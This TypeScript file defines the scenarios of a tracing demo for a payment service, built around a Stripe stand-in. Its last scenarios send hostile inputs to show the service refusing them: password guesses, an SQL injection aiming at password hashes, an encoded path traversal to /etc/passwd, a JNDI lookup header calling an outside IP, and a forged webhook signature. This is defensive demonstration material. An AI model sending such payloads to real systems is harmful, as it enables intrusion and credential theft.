import type { StripeStandIn } from '@plutus/test-kit'
import { paymentIdOf, type CheckoutClient, type Exchange } from './checkout-client.ts'

/** What scenarios act on. */
interface ScenarioWorld {
  readonly customer: CheckoutClient
  readonly admin: CheckoutClient
  readonly stranger: CheckoutClient
  readonly stripe: StripeStandIn
}

/** Something that happens to a payment service, told by one trace. */
export interface Scenario {
  readonly name: string
  readonly title: string
  /** What to look at in the trace. */
  readonly hint: string
  /** What to look at beside it when the service tells events. */
  readonly eventsHint?: string
  /** HTTP status of the answer. */
  readonly expects: number
  /** Makes it happen and gives the request whose trace tells of it. */
  readonly run: (world: ScenarioWorld) => Promise<Exchange>
}

const APPROVED = 'pm_card_visa'
const NO_EXCHANGE: Exchange = {
  method: 'POST',
  path: '/login',
  status: 0,
  correlationId: undefined,
  startMillis: 0,
  endMillis: 0,
}
const WRONG_PASSWORDS = ['123456', 'password', 'letmein', 'qwerty', 'alice2026']

/** What the demo shows, in the order in which it happens and is printed. */
export const SCENARIOS: readonly Scenario[] = [
  {
    name: 'payment',
    title: 'A payment',
    hint: 'Server span, PostgreSQL spans, the call to Stripe, and the log line of the service, all under one trace id.',
    eventsHint: 'Its events (◆) hang below the span that they belong to.',
    expects: 201,
    run: async ({ customer }) =>
      await customer.pay({ amount: 4999, currency: 'eur', paymentMethod: APPROVED, description: 'Order 1001' }),
  },
  {
    name: 'webhook',
    title: 'The webhook that follows',
    hint: 'Stripe tells the outcome a second time; the service checks the signature and notes the event.',
    eventsHint: 'The end of the payment is told a second time, by the same record id, so that it counts once.',
    expects: 200,
    run: async ({ customer, stripe }) => {
      const startMillis = Date.now()
      await customer.pay({ amount: 1250, currency: 'eur', paymentMethod: APPROVED, description: 'Order 1002' })
      await stripe.settled()
      return { ...NO_EXCHANGE, path: '/webhooks/stripe', status: 200, startMillis, endMillis: Date.now() }
    },
  },
  {
    name: 'decline',
    title: 'A declined card',
    hint: 'The decline is an answer, not a failure: Stripe says 402, the service says 402 and logs why.',
    eventsHint: 'The event of the payment ends in failed, with the reason of the bank.',
    expects: 402,
    run: async ({ customer }) =>
      await customer.pay({
        amount: 89_900,
        currency: 'eur',
        paymentMethod: 'pm_card_visa_chargeDeclinedInsufficientFunds',
        description: 'Order 1003',
      }),
  },
  {
    name: 'capture',
    title: 'Authorised first, captured later',
    hint: 'The capture is a request of its own, and so a trace of its own.',
    expects: 200,
    run: async ({ customer }) => {
      const order = { amount: 2500, currency: 'eur', paymentMethod: APPROVED, description: 'Order 1004' }
      const payment = await customer.pay({ ...order, capture: false })
      return await customer.send('POST', `/payments/${paymentIdOf(payment)}/capture`, { body: {} })
    },
  },
  {
    name: 'refund',
    title: 'A refund',
    hint: 'Part of the money goes back.',
    expects: 200,
    run: async ({ customer }) => {
      const order = { amount: 7000, currency: 'usd', paymentMethod: APPROVED, description: 'Order 1005' }
      const payment = await customer.pay(order)
      return await customer.send('POST', `/payments/${paymentIdOf(payment)}/refund`, { body: { amount: 2000 } })
    },
  },
  {
    name: 'admin-refund',
    title: 'An admin pays back',
    hint: 'Somebody of the house moves the money of a customer.',
    eventsHint: 'That is a matter for the auditors: who, which payment, and what changed.',
    expects: 200,
    run: async ({ customer, admin }) => {
      const order = { amount: 12_000, currency: 'jpy', paymentMethod: APPROVED, description: 'Order 1007' }
      const payment = await customer.pay(order)
      return await admin.send('POST', `/payments/${paymentIdOf(payment)}/refund`, { body: {} })
    },
  },
  {
    name: 'slow-query',
    title: 'A slow query',
    hint: 'One look at the bars shows where the time goes.',
    expects: 200,
    run: async ({ admin }) => await admin.send('GET', '/reports/daily'),
  },
  {
    name: 'stripe-outage',
    title: 'Stripe is down',
    hint: 'The service tries again, gives up and answers 502; the error stands on the spans and in the log.',
    eventsHint: 'There is an attempt, and no end: nobody knows whether money moved.',
    expects: 502,
    run: async ({ customer, stripe }) => {
      const recover = stripe.fail(() => ({ status: 500 }))
      const order = { amount: 3100, currency: 'eur', paymentMethod: APPROVED, description: 'Order 1006' }
      const payment = await customer.pay(order)
      recover()
      return payment
    },
  },
  {
    name: 'wrong-password',
    title: 'Wrong passwords',
    hint: 'Five guesses at one account; each is refused with 401. This is the last of them.',
    eventsHint: 'Each is a security event; one hash stands for the account, and no password or address is told.',
    expects: 401,
    run: async ({ stranger }) => {
      const guesses: Exchange[] = []
      for (const password of WRONG_PASSWORDS) guesses.push(await stranger.logIn('alice@example.com', password))
      return guesses.at(-1) ?? NO_EXCHANGE
    },
  },
  {
    name: 'forbidden',
    title: 'A customer at a page for admins',
    hint: 'The service answers 403.',
    eventsHint: 'Two security events: the page was asked for, and refused for want of a role.',
    expects: 403,
    run: async ({ customer }) => await customer.send('GET', '/admin'),
  },
  {
    name: 'attack-sql',
    title: 'An attack string in a search',
    hint: 'The statement shows $1 where the text went: it arrived as a value and nothing else.',
    expects: 200,
    run: async ({ customer }) => {
      const text = "' OR '1'='1' UNION SELECT email, password_hash FROM users --"
      return await customer.send('GET', `/payments?q=${encodeURIComponent(text)}`)
    },
  },
  {
    name: 'attack-path',
    title: 'An attack string in a path',
    hint: 'No route, no query: the service answers 404.',
    expects: 404,
    run: async ({ stranger }) =>
      await stranger.send('GET', '/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd', {
        headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' },
      }),
  },
  {
    name: 'forged-webhook',
    title: 'A forged webhook',
    hint: 'The signature does not fit; the service refuses it before it reads anything.',
    eventsHint: 'A security event says so.',
    expects: 400,
    run: async ({ stranger }) =>
      await stranger.send('POST', '/webhooks/stripe', {
        body: { type: 'payment_intent.succeeded' },
        headers: { 'stripe-signature': `t=${Math.floor(Date.now() / 1000)},v1=${'0'.repeat(64)}` },
      }),
  },
]
